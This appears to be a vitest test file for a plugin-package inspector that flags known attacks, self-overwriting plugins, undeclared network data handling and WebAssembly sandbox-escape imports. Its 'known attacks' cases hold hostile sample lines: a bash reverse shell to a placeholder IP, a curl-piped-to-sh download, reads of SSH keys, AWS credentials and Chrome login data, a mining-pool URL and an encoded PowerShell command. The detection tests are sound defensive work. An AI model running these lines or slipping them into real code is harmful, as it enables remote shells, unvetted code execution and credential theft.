import { inspectManifest, inspectPackage, writeZip } from "@kosmarket/inspect";
import { describe, expect, it } from "vitest";
import { VALID_PLUGIN } from "#tests/support/archive-builder.ts";

async function codesOf(changes: Record<string, string | Uint8Array>): Promise<string[]> {
  const files: Record<string, string | Uint8Array> = { ...VALID_PLUGIN, ...changes };
  const report = await inspectPackage(writeZip(Object.entries(files).map(([path, data]) => ({ path, bytes: Buffer.from(data) }))));
  return report.problems.filter((each) => each.severity !== "I").map((each) => `${each.severity} ${each.code}`);
}
const manifest = (lines: string[], entrypoint = "main.ts") => ["id: harbour-lights", "name: Harbour Lights", `entrypoint: ${entrypoint}`, "version: 1.0.0", "license: MIT", ...lines, ""].join("\n");
const source = async (text: string, permissions = "[file_write, spawn_process]") => (await codesOf({ "plugin.yaml": manifest([`permissions: ${permissions}`]), "main.ts": text })).filter((code) => /known-bad|self-update/.test(code));

describe("known attacks", () => {
  it.each([
    'const pool = "stratum+tcp://pool.example:3333";',
    "new Deno.Command('bash', { args: ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] });",
    "new Deno.Command('sh', { args: ['-c', `curl -s https://x.example/i.sh | sh`] });",
    "const place = home + '/.ssh/id_ed25519';",
    "const place = `${home}/.aws/credentials`;",
    "const place = 'Library/Application Support/Google/Chrome/Default/Login Data';",
    "const line = 'powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AA==';",
  ])("are refused: %s", async (text) => {
    expect(await source(text)).toEqual(["B source.known-bad"]);
  });

  it.each([
    "// curl https://x.example | sh is how not to do it\nexport const a = 1;",
    "const help = 'Pipe the output of curl into a file, never into sh.';",
    "const words = ['stratum', 'cookies', 'login data', 'shadow'];",
    "const shadow = '/etc/shadows-of-the-sea';",
    "const note = 'See ~/.ssh for your keys.';",
  ])("are not seen in what only looks like them: %s", async (text) => {
    expect(await source(text)).toEqual([]);
  });
});

describe("a plugin that writes over itself", () => {
  it.each([
    "await Deno.writeTextFile(new URL('./main.ts', import.meta.url), code);",
    "import fs from 'node:fs'; fs.writeFileSync(__filename, code);",
    "const here = import.meta.dirname; const file = `${here}/main.ts`; await Deno.writeTextFile(file, code);",
    "import { rename } from 'node:fs/promises'; import * as fs from 'node:fs'; fs.renameSync('/tmp/new.ts', __dirname + '/main.ts');",
  ])("is refused: %s", async (text) => {
    expect(await source(text)).toEqual(["B source.self-update"]);
  });

  it.each([
    "await Deno.writeTextFile('/data/notes.txt', text);",
    "const words = await Deno.readTextFile(new URL('./words.txt', import.meta.url));",
    "import fs from 'node:fs'; fs.copyFileSync(__dirname + '/defaults.json', '/data/defaults.json');",
  ])("is told from one that writes elsewhere, or reads its own files: %s", async (text) => {
    expect(await source(text)).toEqual([]);
  });

  it("is told from a module's build beside it, which the host never runs", async () => {
    const wasm = { "plugin.yaml": manifest(["permissions: []", "runtime: wasm"], "main.wasm"), "main.wasm": Buffer.from("0061736d01000000", "hex") };
    expect(await codesOf({ ...wasm, "build.ts": "import fs from 'node:fs'; fs.writeFileSync(new URL('./main.wasm', import.meta.url), code);" })).not.toContain("B source.self-update");
  });
});

describe("what leaves the host", () => {
  const plugin = async (lines: string[]) => (await codesOf({ "plugin.yaml": manifest(["permissions: [network]", ...lines]), "main.ts": "await fetch(place);" })).filter((code) => code.includes("data-handling"));

  it("must be said by a plugin, unless it only speaks to this machine", async () => {
    expect(await plugin(["network: [api.example.com]"])).toEqual(["B manifest.data-handling"]);
    expect(await plugin(["network: [api.example.com]", "data_handling: { retention: 30 days }"])).toEqual([]);
    expect(await plugin(["network: ['localhost:8080', 127.0.0.1]"])).toEqual([]);
  });

  it("should be said by a service, unless it runs on this machine", async () => {
    const service = async (endpoint: string, more = "") => (await inspectManifest(new TextEncoder().encode(`services:\n  - id: tides\n    name: Tides\n    type: llm\n    endpoint: ${endpoint}\n    auth: { type: none }\n    capabilities: [chat]\n    version: "1.0.0"\n${more}`), { publishing: true })).problems.filter((each) => each.check === "data-handling").map((each) => [each.severity, each.line]);
    expect(await service("https://tides.example.org/v1")).toEqual([["W", 5]]);
    expect(await service("https://tides.example.org/v1", "    data_handling: { trains_on_input: false }\n")).toEqual([]);
    expect(await service("http://localhost:6333")).toEqual([]);
  });
});

describe("a WebAssembly module", () => {
  /** A module that imports one function of no parameters. */
  const importing = (module: string, name: string): Uint8Array => {
    const text = (value: string) => [value.length, ...Buffer.from(value)];
    const imports = [1, ...text(module), ...text(name), 0, 0];
    return Uint8Array.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 4, 1, 0x60, 0, 0, 2, imports.length, ...imports]);
  };
  const wasm = async (module: string, name: string, permissions: string) => (await codesOf({ "plugin.yaml": manifest(["runtime: wasm", `permissions: ${permissions}`], "main.wasm"), "main.wasm": importing(module, name) })).filter((code) => code.startsWith("B"));

  it("imports what it has the permission for, and nothing of the system's", async () => {
    expect(await wasm("host", "log", "[]")).toEqual(["B permission.undeclared"]);
    expect(await wasm("host", "storage_get", "[log_output]")).toEqual(["B permission.undeclared"]);
    expect(await wasm("host", "log", "[log_output]")).toEqual([]);
    expect(await wasm("wasi_snapshot_preview1", "fd_write", "[]")).toEqual(["B source.sandbox-escape"]);
  });
});
